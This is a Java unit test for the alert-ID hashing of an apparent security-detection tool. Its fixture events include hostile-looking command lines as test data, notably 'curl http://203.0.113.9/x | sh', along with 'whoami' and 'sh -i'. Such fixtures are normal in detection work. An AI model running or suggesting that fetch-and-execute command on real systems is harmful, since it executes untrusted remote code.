package dev.hookline.alert;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;

import dev.hookline.io.EventJsonWriter;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.schema.Table;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import org.junit.jupiter.api.Test;

class AlertIdsTest {
    private static Event exec(String cmd) {
        Event e = new Event(Table.DeviceProcessEvents);
        e.set(Columns.ACTION_TYPE, "ProcessCreated");
        e.set(Columns.FILE_NAME, "sh");
        e.set(Columns.PROCESS_COMMAND_LINE, cmd);
        e.set(Columns.PROCESS_ID, 4242);
        return e;
    }

    private static String expected(String rule, String arm, Event e) throws Exception {
        MessageDigest md = MessageDigest.getInstance("SHA-256");
        byte[] d = md.digest((rule + "\0" + arm + "\0" + EventJsonWriter.toJson(e)).getBytes(StandardCharsets.UTF_8));
        return HexFormat.of().formatHex(d, 0, 16);
    }

    @Test
    void idIsTheFirst128BitsOfSha256OverRuleArmAndEventJson() throws Exception {
        Event e = exec("sh -c 'curl http://203.0.113.9/x | sh'");
        assertEquals(expected("r.one", "ArmA", e), AlertIds.of("r.one", "ArmA", e));
    }

    @Test
    void reusedDigestStartsFreshForEveryId() throws Exception {
        Event a = exec("sh -c whoami");
        Event b = exec("sh -c id");
        String first = AlertIds.of("r", "arm", a);
        AlertIds.of("r", "arm", b);
        assertEquals(first, AlertIds.of("r", "arm", a));
        assertNotEquals(first, AlertIds.of("r", "other", a));
        assertEquals(expected("r", "arm", b), AlertIds.of("r", "arm", b));
    }

    @Test
    void threadsComputeTheSameIds() throws Exception {
        Event e = exec("sh -i");
        String here = AlertIds.of("r", "arm", e);
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            for (int i = 0; i < 64; i++) {
                assertEquals(here, pool.submit(() -> AlertIds.of("r", "arm", e)).get());
            }
        } finally {
            pool.shutdown();
        }
    }
}
